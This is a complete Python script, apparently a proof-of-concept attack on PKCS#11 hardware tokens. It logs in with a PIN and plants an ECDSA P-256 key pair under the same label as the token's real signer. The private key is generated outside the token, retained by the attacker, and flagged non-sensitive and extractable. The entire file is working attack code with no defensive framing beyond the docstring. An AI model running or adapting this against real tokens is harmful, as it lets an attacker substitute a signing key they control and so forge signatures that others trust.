"""plant_signer.py MODULE TOKEN_LABEL PIN_ENV_NAME SIGNER_LABEL: as a PIN holder, with PyKCS11,
creates beside the token's signer an ECDSA P-256 key pair of the same label whose private key
the attacker made (and keeps): private, token objects, CKA_SENSITIVE false, extractable. Prints
the SHA-256 of the attacker's SubjectPublicKeyInfo."""
import hashlib
import os
import sys

import PyKCS11
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from PyKCS11.LowLevel import (
    CKA_CLASS, CKA_EC_PARAMS, CKA_EC_POINT, CKA_EXTRACTABLE, CKA_KEY_TYPE, CKA_LABEL, CKA_PRIVATE,
    CKA_SENSITIVE, CKA_SIGN, CKA_TOKEN, CKA_VALUE, CKA_VERIFY, CKF_RW_SESSION, CKF_SERIAL_SESSION,
    CKK_EC, CKO_PRIVATE_KEY, CKO_PUBLIC_KEY, CKU_USER,
)

P256 = bytes.fromhex("06082a8648ce3d030107")
module, token, pin_env, label = sys.argv[1:5]
lib = PyKCS11.PyKCS11Lib()
lib.load(module)
slot = [s for s in lib.getSlotList(tokenPresent=True) if lib.getTokenInfo(s).label.strip() == token][0]
session = lib.openSession(slot, CKF_SERIAL_SESSION | CKF_RW_SESSION)
session.login(os.environ[pin_env], CKU_USER)
key = ec.generate_private_key(ec.SECP256R1())
point = key.public_key().public_bytes(serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint)
d = key.private_numbers().private_value.to_bytes(32, "big")
common = [(CKA_KEY_TYPE, CKK_EC), (CKA_EC_PARAMS, P256), (CKA_LABEL, label), (CKA_TOKEN, True),
          (CKA_PRIVATE, True)]
session.createObject([(CKA_CLASS, CKO_PUBLIC_KEY), (CKA_EC_POINT, bytes([4, len(point)]) + point),
                      (CKA_VERIFY, True)] + common)
session.createObject([(CKA_CLASS, CKO_PRIVATE_KEY), (CKA_VALUE, d), (CKA_SIGN, True),
                      (CKA_SENSITIVE, False), (CKA_EXTRACTABLE, True)] + common)
session.logout()
spki = key.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
print(hashlib.sha256(spki).hexdigest())
